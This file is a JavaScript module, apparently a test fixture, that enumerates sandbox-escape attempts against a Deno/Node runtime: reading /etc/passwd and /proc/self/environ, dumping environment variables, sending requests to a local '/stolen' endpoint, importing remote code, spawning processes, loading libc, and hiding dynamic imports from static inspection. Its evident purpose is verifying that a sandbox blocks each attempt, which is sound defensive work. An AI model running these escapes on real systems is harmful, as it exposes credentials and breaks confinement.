/**
 * Tries to reach what it was not given. `options` names one attempt; what the attempt returns has got
 * out, and is the data of the analysis.
 */

import childProcess from "node:child_process";
import dgram from "node:dgram";
import dns from "node:dns/promises";
import fs from "node:fs";
import inspector from "node:inspector";
import Module, { createRequire } from "node:module";
import net from "node:net";
import os from "node:os";
import process from "node:process";
import { DatabaseSync } from "node:sqlite";
import vm from "node:vm";
import threads from "node:worker_threads";

// Hidden from whoever reads imports before the module runs.
const hidden = "return (specifier, options) => import(specifier, options)";
const later = (...given) => new Function(hidden)()(...given);
const url = (code) => "data:text/javascript," + encodeURIComponent(code);
const port = () => Number(options.port);
let options = {};

const readsPasswd = `try { self.postMessage(Deno.readTextFileSync("/etc/passwd")); }
  catch (error) { self.postMessage({ refused: error.message }); }`;

function inWorker(specifier, workerOptions) {
  const { promise, resolve, reject } = Promise.withResolvers();
  const worker = new Worker(specifier, { type: "module", ...workerOptions });
  worker.onmessage = ({ data }) => data.refused ? reject(new Error(data.refused)) : resolve(data);
  worker.onerror = (event) => {
    event.preventDefault();
    reject(new Error(event.message));
  };
  return promise.finally(() => worker.terminate());
}

export const attempts = {
  readFile: () => Deno.readTextFile("/etc/passwd"),
  nodeReadFile: () => fs.readFileSync("/etc/passwd", "utf8"),
  openFile: () => Deno.openSync("/etc/passwd").readSync(new Uint8Array(9)),
  fetchFile: () => fetch("file:///etc/passwd").then((response) => response.text()),
  importFile: () => later(options.secret, { with: { type: "json" } }).then((m) => m.default),
  requireFile: () => createRequire("file:///")(options.secret.replace("file://", "")),
  importFileThroughData: () =>
    later(url(`import s from ${JSON.stringify(options.secret)} with { type: "json" };
      export default s`)).then((m) => m.default),
  readDirectory: () => [...Deno.readDirSync("/")],
  statFile: () => Deno.statSync("/etc/passwd").size,
  procEnviron: () => fs.readFileSync("/proc/self/environ", "utf8"),
  writeFile: () => Deno.writeTextFile("/tmp/sightline-escape", "x"),
  nodeMkdir: () => fs.mkdirSync("/tmp/sightline-escape"),
  sqlite: () => new DatabaseSync("/tmp/sightline-escape.db"),
  environment: () => Deno.env.toObject(),
  nodeEnvironment: () => process.env.HOME ?? "",
  connect: () => Deno.connect({ hostname: "127.0.0.1", port: port() }),
  nodeConnect: () =>
    new Promise((resolve, reject) =>
      net.connect(port(), "127.0.0.1").on("connect", resolve).on("error", reject)
    ),
  fetch: () => fetch(`http://127.0.0.1:${port()}/stolen`),
  webSocket: () =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`ws://127.0.0.1:${port()}/`);
      socket.onopen = resolve;
      socket.onerror = (event) => reject(new Error(event.message || "refused"));
    }),
  listen: () => Deno.listen({ port: 0 }).addr,
  datagram: () =>
    new Promise((resolve, reject) =>
      dgram.createSocket("udp4").on("error", reject).bind(0, () => resolve("bound"))
    ),
  resolveName: () => dns.lookup("localhost"),
  spawn: () => new Deno.Command("/usr/bin/id").outputSync(),
  nodeSpawn: () => childProcess.execFileSync("/usr/bin/id").toString(),
  foreignFunction: () => Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } }),
  nodeForeignFunction: () => process.dlopen({ exports: {} }, "/lib/x86_64-linux-gnu/libc.so.6"),
  systemInfo: () => Deno.hostname(),
  nodeSystemInfo: () => os.userInfo(),
  importRemote: () => later(`http://127.0.0.1:${port()}/code.js`).then((m) => m.default),
  importRemoteThroughData: () =>
    later(url(`export { default } from "http://127.0.0.1:${port()}/code.js"`)),
  importPackage: () => later("npm:left-pad").then((m) => typeof m.default),
  nestedWorker: () => inWorker(url(readsPasswd)),
  nestedWorkerWithMore: () => inWorker(url(readsPasswd), { deno: { permissions: { read: true } } }),
  nestedWorkerFromRemote: () => inWorker(`http://127.0.0.1:${port()}/code.js`),
  nodeThread: () =>
    new Promise((resolve, reject) => {
      const code = `require("node:worker_threads").parentPort.postMessage(
        require("node:fs").readFileSync("/etc/passwd", "utf8"))`;
      const worker = new threads.Worker(code, { eval: true });
      worker.on("message", resolve).on("error", reject);
    }),
  askForMore: async () => {
    const { state } = await Deno.permissions.request({ name: "read" });
    if (state !== "granted") throw new Error(`Requires a yes, and it is ${state}`);
    return state;
  },
  writeStandardOutput: () => Deno.stdout.writeSync(new TextEncoder().encode("ESCAPED\n")),
  nodeWriteStandardOutput: () => process.stdout.write("ESCAPED\n"),
  writeByNumber: () => fs.writeSync(1, "ESCAPED\n"),
  writeByNumberLater: () => new Promise((resolve) => fs.write(1, "ESCAPED\n", resolve)),
  streamByNumber: () =>
    new Promise((resolve, reject) => {
      fs.createWriteStream("", { fd: 1 }).on("error", reject).write("ESCAPED\n", resolve);
    }),
  closeByNumber: () => fs.closeSync(1) ?? "closed",
  readStandardInput: () => Deno.stdin.readSync(new Uint8Array(1)),
  readByNumber: () => fs.readSync(0, new Uint8Array(1)),
  killHost: () => Deno.kill(Deno.pid, "SIGKILL") ?? "killed",
  nodeKillHost: () => process.kill(process.pid, "SIGKILL"),
  // deno-lint-ignore no-eval
  evalImport: () => (0, eval)("import('npm:left-pad')"),
  asyncFunction: () => (async () => {}).constructor("return await import('npm:left-pad')")(),
  generator: () => (function* () {}).constructor("yield import('npm:left-pad')")().next().value,
  reflected: () =>
    Reflect.construct(Object.getPrototypeOf(() => {}).constructor, [
      "return import('npm:left-pad')",
    ])(),
  virtualMachine: () => vm.runInThisContext("1 + 1"),
  virtualMachineScript: () => new vm.Script("1 + 1").runInThisContext(),
  compile: () => new Module("x")._compile("module.exports = 1", "/x.js"),
  inspectorSession: () => new inspector.Session().connect() ?? "connected",
  timerText: () => setTimeout("globalThis.x = 1", 0),
  inspector: () => inspector.open(0),
};

export default (given) => ({
  postprocess: async () => {
    options = given;
    const got = await attempts[given.attempt]();
    return { data: { escaped: String(got ?? "something") } };
  },
});
